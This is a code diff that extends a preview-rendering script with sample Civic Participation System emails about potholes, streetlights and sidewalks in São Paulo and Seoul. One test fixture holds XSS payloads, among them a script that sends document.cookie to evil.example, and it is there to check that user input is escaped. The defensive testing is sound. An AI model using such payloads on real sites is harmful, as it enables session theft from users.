@@ -1,12 +1,22 @@
 /**
- * Writes every membership email (HTML part) and every ballot page to a folder, with realistic
- * sample data, so they can be opened in a browser or screenshotted:
+ * Writes every membership email, every Civic Participation System email (HTML part) and every
+ * ballot page to a folder, with realistic sample data, so they can be opened in a browser or
+ * screenshotted:
  *
  *   npx tsx scripts/render-previews.ts /tmp/previews
  */
 import { mkdirSync, writeFileSync } from 'node:fs';
 import { join, resolve } from 'node:path';
 import { ballotErrorPage, ballotPage, voteRecordedPage } from '../functions/ballots/page.ts';
+import {
+  assignmentEmail,
+  citizenAcknowledgementEmail,
+  citizenUpdateEmail,
+  handOverEmail,
+  overdueRequestEmail,
+  unroutedRequestEmail,
+} from '../functions/cps/emails.ts';
+import type { Assignee, CivicRequest } from '../functions/cps/types.ts';
 import type { Application } from '../functions/membership/application.ts';
 import {
   acceptedEmail,
@@ -133,5 +143,160 @@ const files: Record<string, string | undefined> = {
 for (const [name, content] of Object.entries(files)) {
   const path = join(outDir, `${name}.html`);
   writeFileSync(path, content ?? '');
+  console.log(path);
+}
+
+// Civic Participation System samples.
+const requestUrl = (id: string) => `https://wego.example/cps/requests/${id}`;
+
+const fiscal: Assignee = {
+  officialId: 'off-sp-zl-01',
+  name: 'Luíza Conceição Magalhães',
+  title: 'Subprefeita de Itaquera — Zeladoria Urbana',
+  email: 'luiza.magalhaes@itaquera.prefeitura.sp.gov.br.example',
+};
+
+const pothole: CivicRequest = {
+  id: '01JF8Q3M5N7P9R2S4T6V8W0XYZ',
+  cityId: 'sao-paulo',
+  cityName: 'São Paulo',
+  service: 'pothole',
+  serviceName: 'Buraco na via (pothole)',
+  district: 'Itaquera — Cidade Líder',
+  description:
+    'Buraco grande na faixa da direita, perto do ponto de ônibus em frente à padaria São João.\nJá furou o pneu de dois carros esta semana e à noite não dá para ver.',
+  location: { lat: -23.5428714, lng: -46.4571236 },
+  address: 'Avenida Itaquera, 8.251 — em frente ao nº 8.260, Cidade Líder, São Paulo — SP, 08295-005',
+  contact: {
+    name: 'José Antônio Gonçalves',
+    email: 'jose.goncalves@example.com.br',
+    phone: '+55 11 98765-4321',
+  },
+  status: 'assigned',
+  assignedTo: fiscal,
+  createdAt: '2026-07-14T11:32:00.000Z',
+  updatedAt: '2026-07-14T11:32:00.000Z',
+  expectedAt: '2026-07-17T11:32:00.000Z',
+};
+
+const streetlightOfficial: Assignee = {
+  officialId: 'off-seoul-jongno-07',
+  name: 'Park Min-jun (박민준)',
+  title: 'Road Lighting Team, Jongno-gu Office (종로구청 도로과)',
+  email: 'minjun.park@jongno.go.kr.example',
+};
+
+const streetlight: CivicRequest = {
+  id: '01JF9A1B2C3D4E5F6G7H8J9K0M',
+  cityId: 'seoul',
+  cityName: 'Seoul',
+  service: 'streetlight',
+  serviceName: 'Streetlight out (가로등 고장)',
+  district: '종로구 (Jongno-gu)',
+  description:
+    '삼청동 골목길 가로등 3개가 일주일째 꺼져 있습니다. 밤에 너무 어두워서 위험해요.\nThree streetlights in the alley behind Samcheong-dong community centre have been out for a week.',
+  location: { lat: 37.5856, lng: 126.9822 },
+  address: '서울특별시 종로구 삼청로 101 (Samcheong-ro 101)',
+  contact: { name: '이서연', email: 'seoyeon.lee@example.kr' },
+  status: 'assigned',
+  assignedTo: streetlightOfficial,
+  createdAt: '2026-08-03T13:05:00.000Z',
+  updatedAt: '2026-08-03T13:05:00.000Z',
+  expectedAt: '2026-08-05T13:05:00.000Z',
+};
+
+/** A citizen tries HTML in every field they type; it must arrive as plain text. */
+const injection: CivicRequest = {
+  ...streetlight,
+  id: '01JFA0XSS0XSS0XSS0XSS0XSS0',
+  district: 'Mapo-gu<script>alert("d")</script>',
+  address: '<a href="https://evil.example">Click here</a>',
+  description:
+    '<img src=x onerror=alert(1)> <b>bold?</b> & "quotes" \'single\'\n<script>document.location="https://evil.example/?c="+document.cookie</script>',
+  contact: { name: '<i>Mallory</i>', email: 'mallory@example.net' },
+  status: 'submitted',
+  assignedTo: undefined,
+};
+
+/** A long description, no location, no contact, and a long unbroken URL. */
+const longOne: CivicRequest = {
+  ...pothole,
+  id: '01JFB7LONG7LONG7LONG7LONG7',
+  serviceName: 'Calçada danificada / acessibilidade (damaged sidewalk and accessibility)',
+  district: 'Vila Mariana — Jardim Vila Mariana, próximo ao Parque Ibirapuera, portão 10',
+  location: undefined,
+  contact: undefined,
+  description: [
+    'A calçada da Rua Sena Madureira entre os números 1.200 e 1.450 está completamente quebrada há meses.',
+    '',
+    'Problemas observados:',
+    '- raízes de árvores levantaram as placas de concreto em vários pontos;',
+    '- não há rampa de acessibilidade na esquina com a Rua Domingos de Morais, e cadeirantes precisam descer para a rua, junto aos ônibus;',
+    '- a iluminação é fraca e idosos já caíram duas vezes este mês (uma senhora quebrou o punho).',
+    '',
+    'Fotos: https://photos.example.com/albums/2026/sena-madureira-calcada-quebrada-1200-1450/full-resolution-originals-download-all.zip',
+    '',
+    'Peço que a prefeitura inspecione o trecho, conserte as placas e construa a rampa. Obrigado!',
+  ].join('\n'),
+  status: 'in_progress',
+  overdue: true,
+  escalatedAt: '2026-07-20T14:00:00.000Z',
+};
+
+const cpsFiles: Record<string, string> = {
+  'cps-assignment-pothole': assignmentEmail(pothole, fiscal, requestUrl(pothole.id)).html,
+  'cps-assignment-streetlight': assignmentEmail(streetlight, streetlightOfficial, requestUrl(streetlight.id))
+    .html,
+  'cps-assignment-long': assignmentEmail(longOne, fiscal, requestUrl(longOne.id)).html,
+  'cps-handover-streetlight': handOverEmail(
+    { ...streetlight, assignedTo: { ...streetlightOfficial, name: 'Choi Yu-na (최유나)' } },
+    { ...streetlightOfficial, name: 'Choi Yu-na (최유나)', email: 'yuna.choi@jongno.go.kr.example' },
+    'Samcheong-ro is maintained by the Seoul Metropolitan Facilities Management Corporation, not by the district office.\n담당 부서 변경.',
+    requestUrl(streetlight.id),
+  ).html,
+  'cps-handover-overdue-long': handOverEmail(
+    longOne,
+    fiscal,
+    'Sidewalks of arterial roads belong to Zeladoria.',
+    requestUrl(longOne.id),
+  ).html,
+  'cps-citizen-ack-pothole': citizenAcknowledgementEmail(pothole, requestUrl(pothole.id)).html,
+  'cps-citizen-ack-streetlight': citizenAcknowledgementEmail(streetlight, requestUrl(streetlight.id)).html,
+  'cps-citizen-ack-unrouted-xss': citizenAcknowledgementEmail(injection, requestUrl(injection.id)).html,
+  'cps-citizen-update-in-progress': citizenUpdateEmail(
+    { ...pothole, status: 'in_progress' },
+    {
+      at: '2026-07-15T09:10:00.000Z',
+      actor: fiscal.email,
+      status: 'in_progress',
+      note: 'Equipe de tapa-buraco agendada para quinta-feira, 16/07, entre 8h e 12h. A faixa da direita será interditada durante o serviço.',
+      public: true,
+    },
+    requestUrl(pothole.id),
+  ).html,
+  'cps-citizen-update-resolved': citizenUpdateEmail(
+    { ...streetlight, status: 'resolved' },
+    {
+      at: '2026-08-04T07:45:00.000Z',
+      actor: streetlightOfficial.email,
+      status: 'resolved',
+      note: '가로등 3개의 램프와 안정기를 교체했습니다. 감사합니다.\nThe lamps and ballasts of the three streetlights were replaced. Thank you for reporting it.',
+      public: true,
+    },
+    requestUrl(streetlight.id),
+  ).html,
+  'cps-unrouted-xss': unroutedRequestEmail('secretariat@wego.example', injection, requestUrl(injection.id))
+    .html,
+  'cps-overdue-long': overdueRequestEmail('secretariat@wego.example', longOne, requestUrl(longOne.id)).html,
+  'cps-overdue-unassigned': overdueRequestEmail(
+    'secretariat@wego.example',
+    { ...injection, overdue: true, escalatedAt: '2026-08-06T01:00:00.000Z' },
+    requestUrl(injection.id),
+  ).html,
+};
+
+for (const [name, content] of Object.entries(cpsFiles)) {
+  const path = join(outDir, `${name}.html`);
+  writeFileSync(path, content);
   console.log(path);
 }
